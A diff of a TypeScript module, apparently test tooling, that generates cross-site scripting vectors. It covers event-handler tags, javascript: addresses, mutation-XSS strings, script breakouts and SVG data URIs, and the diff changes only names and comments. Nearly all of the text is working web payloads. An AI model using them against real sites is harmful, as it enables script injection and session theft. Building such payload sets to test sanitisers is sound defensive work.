@@ -1,21 +1,21 @@
 /**
- * Ways to get a script past whoever draws text or HTML: each would call `run`. They are put together from parts, so that
- * each trick is tried with each place that it works in.
+ * Ways to get a script into rendered text or HTML; each would call `run`. They are combined from parts, so that each
+ * trick is tried in each place where it works.
  */
 export function xssVectors(run: string): string[] {
   const code = run.replaceAll('"', '&quot;');
   return [
     ...withHandlers(code),
-    ...asAddresses(run).flatMap((address) => PLACES_OF_ADDRESSES.map((place) => place.replace('ADDRESS', address))),
+    ...scriptAddresses(run).flatMap((address) => ADDRESS_PLACES.map((place) => place.replace('ADDRESS', address))),
     ...mutating(code),
     ...breakingOut(run, code),
     ...filesThatRun(run),
   ];
 }
 
-/** An element, and the handler that runs by itself or by a touch. */
+/** Elements with an event handler that runs by itself or on a touch. */
 function withHandlers(code: string): string[] {
-  const alone = [
+  const elements = [
     ['img src=x', 'onerror'],
     ['img src=/favicon.svg', 'onload'],
     ['svg', 'onload'],
@@ -49,10 +49,10 @@ function withHandlers(code: string): string[] {
     (tag: string, handler: string) => `<${tag.toUpperCase()} ${handler.toUpperCase()}='${code}'//`,
     (tag: string, handler: string) => `<${tag.replaceAll(' ', '/')}\n${handler}\t=\n"${code}">`,
   ];
-  return alone.flatMap(([tag = '', handler = '']) => spellings.map((spell) => spell(tag, handler)));
+  return elements.flatMap(([tag = '', handler = '']) => spellings.map((spell) => spell(tag, handler)));
 }
 
-const PLACES_OF_ADDRESSES = [
+const ADDRESS_PLACES = [
   '<a href="ADDRESS">klik</a>',
   '<iframe src="ADDRESS"></iframe>',
   '<form action="ADDRESS"><button>klik</button></form>',
@@ -60,8 +60,8 @@ const PLACES_OF_ADDRESSES = [
   '<math><mtext href="ADDRESS">klik</mtext></math>',
 ];
 
-/** The address of a script, in the spellings that a browser forgives. */
-function asAddresses(run: string): string[] {
+/** Addresses that are scripts, in the spellings that a browser accepts. */
+function scriptAddresses(run: string): string[] {
   const code = encodeURIComponent(run);
   return [
     `javascript:${code}`,
@@ -81,7 +81,7 @@ function asAddresses(run: string): string[] {
   ];
 }
 
-/** What is harmless when it is cleaned, and changes when it is parsed a second time. */
+/** Mutation XSS: harmless when sanitised, but different when parsed a second time. */
 const mutating = (code: string): string[] => [
   `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
@@ -101,7 +101,7 @@ const mutating = (code: string): string[] => [
   `<p><b><p><b><i><p><svg><style><img src=x onerror=${code}></style></svg></p></i>`,
 ];
 
-/** Out of an attribute, a script or a text of ours. */
+/** Vectors that break out of an attribute, a script or a text. */
 const breakingOut = (run: string, code: string): string[] => [
   `<script>${run}</script>`,
   `<scr<script>ipt>${run}</scr</script>ipt>`,
@@ -130,7 +130,7 @@ const breakingOut = (run: string, code: string): string[] => [
   `<p id="x" slot="y" onpointerenter="${code}" autofocus tabindex="0" onfocus="${code}">klik</p>`,
 ];
 
-/** Files that carry a script. */
+/** Embedded files with a script. */
 const filesThatRun = (run: string): string[] => {
   const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>parent.${run}</script></svg>`;
   const data = `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
